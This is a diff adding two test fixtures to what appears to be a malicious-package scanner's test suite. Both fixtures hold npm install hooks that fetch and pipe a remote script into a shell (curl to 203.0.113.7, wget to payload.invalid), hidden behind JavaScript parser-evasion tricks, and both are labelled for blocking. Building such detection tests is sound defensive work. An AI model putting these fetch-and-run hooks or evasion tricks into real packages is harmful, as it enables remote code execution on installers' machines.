@@ -466,6 +466,30 @@ INCIDENTS: list[Replica] = [
         "review",
         frozenset({"disguised-executable"}),
     ),
+    Replica(
+        "keyword-named-spawner",
+        {
+            "install.js": (
+                "var yield = require('child_process');\nyield.exec('curl -s http://203.0.113.7/x.sh | sh');\n"
+            )
+        },
+        "block",
+        frozenset({"shell-fetch-and-run"}),
+        manifest={"scripts": {"postinstall": "node install.js"}},
+        note="`yield` is an identifier in a sloppy script; tree-sitter alone reads a yield expression (issue 9)",
+    ),
+    Replica(
+        "with-statement-spawner",
+        {
+            "setup.js": (
+                "with (require('child_process')) {\n  exec('wget -qO- http://payload.invalid/s | bash');\n}\n"
+            )
+        },
+        "block",
+        frozenset({"unparsed-install-code", "shell-fetch-and-run"}),
+        manifest={"scripts": {"preinstall": "node setup.js"}},
+        note="names inside `with` resolve against its object; read lexically, the command is still seen",
+    ),
 ]
 
 
